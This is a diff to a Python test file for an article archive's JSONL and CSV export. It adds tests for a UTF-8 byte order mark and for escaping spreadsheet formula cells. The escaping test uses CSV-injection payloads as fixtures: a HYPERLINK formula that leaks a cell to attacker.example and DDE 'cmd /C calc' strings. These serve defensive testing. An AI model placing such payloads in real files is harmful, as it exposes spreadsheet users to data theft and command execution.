@@ -1,5 +1,6 @@
 """Exports: every article out as JSONL or CSV, and JSONL back in as the same archive."""
 
+import codecs
 import csv
 import json
 from datetime import date
@@ -126,9 +127,17 @@ def test_bad_jsonl_lines_are_rejected_by_line_and_the_rest_imported(tmp_path):
     ]
 
 
-def test_csv_export_has_the_same_columns(seeded_archive):
+def csv_rows(path):
+    """Return the rows of a CSV export at `path`, read as a spreadsheet reads UTF-8 with a BOM."""
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+def test_csv_export_has_the_same_columns(seeded_archive, tmp_path):
     """CSV has a header of the JSONL fields and a row per article; lists are joined."""
-    rows = list(csv.DictReader(StringIO(export("--format", "csv"))))
+    exported = tmp_path / "archive.csv"
+    export("--format", "csv", "--output", str(exported))
+    rows = csv_rows(exported)
     assert len(rows) == 5
     assert list(rows[0]) == FIELDS
     firstpost = next(row for row in rows if row["source"] == "firstpost")
@@ -138,3 +147,41 @@ def test_csv_export_has_the_same_columns(seeded_archive):
         "Deadly memorial service",
     ]
     assert firstpost["review_reasons"] == "title"
+
+
+def test_csv_export_is_utf8_with_a_byte_order_mark(make_article, tmp_path):
+    """The file and standard output start with a BOM, so spreadsheets read accents right."""
+    make_article(title="Médecins à Téhéran", source="Le Monde")
+    exported = tmp_path / "archive.csv"
+    export("--format", "csv", "--output", str(exported))
+    assert exported.read_bytes().startswith(codecs.BOM_UTF8 + b"id,title,")
+    assert csv_rows(exported)[0]["title"] == "Médecins à Téhéran"
+    assert export("--format", "csv").startswith("\ufeffid,title,")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text(make_article, tmp_path):
+    """A title, source or author starting with = + - @, a tab or a carriage return gets a
+    leading ' (a spreadsheet then shows it as text); numbers and plain text stay as they are."""
+    article = make_article(
+        title='=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+        source="-2+3+cmd|' /C calc'!A0",
+        author="@SUM(1+1)*cmd|' /C calc'!A0",
+        url="+1+1",
+        language="\tde",
+        body="\r=1+1 and the rest of the story.",
+    )
+    make_article(title="Talks resume", source="Reuters", author="Jane Doe")
+    exported = tmp_path / "archive.csv"
+    export("--format", "csv", "--output", str(exported))
+    hostile, plain = csv_rows(exported)
+    assert hostile["title"] == '\'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+    assert hostile["source"] == "'-2+3+cmd|' /C calc'!A0"
+    assert hostile["author"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert (hostile["url"], hostile["language"]) == ("'+1+1", "'\tde")
+    assert hostile["body"].startswith("'\r=1+1")
+    assert (hostile["id"], hostile["word_count"]) == (str(article.pk), str(article.word_count))
+    assert (plain["title"], plain["source"], plain["author"]) == (
+        "Talks resume",
+        "Reuters",
+        "Jane Doe",
+    )
